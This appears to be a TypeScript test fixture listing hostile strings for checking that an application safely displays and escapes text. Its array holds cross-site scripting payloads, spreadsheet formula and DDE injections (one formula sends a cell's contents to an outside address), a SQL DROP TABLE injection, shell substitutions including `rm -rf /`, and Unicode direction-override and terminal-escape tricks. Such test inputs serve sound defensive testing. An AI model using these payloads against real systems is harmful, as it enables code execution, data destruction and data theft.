const LONG = "x".repeat(100_000);

/** Text that is more than text to some reader of it: a page, a shell, a spreadsheet, a terminal, a forge, a database. */
export const HOSTILE = [
  "Act <script>alert(1)</script> of",
  `Act "><img src=x onerror=alert(1)> of`,
  `Act ", 'and', "quotes" of`,
  '=HYPERLINK("http://example.org/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "Act @octocat closes #12 [x](javascript:alert(1)) `rm -rf /` | ~~x~~ of",
  "Act $" + "{{ secrets.TOKEN }} $(touch /tmp/x) of",
  "'; DROP TABLE action; --",
  "Act \u202egnp.exe\u202c of",
  "Act \u200e\u2066of\u2069",
  "Act\nof\r\nlines",
  "Act \u001b[31m\u0007of",
  "Act \u0000 of",
  "Act \u0085\u009b31m of",
  "Act &lt;b&gt;of&#7;",
  "Act \ud83d\ude00 中国 of",
  `Act ${LONG} of`,
] as const;

/** How a test names one of them. */
export function shownHostile(text: string): string {
  return JSON.stringify(text.slice(0, 60));
}

/** Controls of direction are taken off; what windows-1252 has in the place of a control is that. */
export function asRead(text: string): string {
  return text
    .replaceAll(/\p{Bidi_Control}/gu, "")
    .replace("\u0085", "…")
    .replace("\u009b", "›");
}

export function withoutBlanks(text: string): string {
  return text.replaceAll(/\s+/g, "");
}
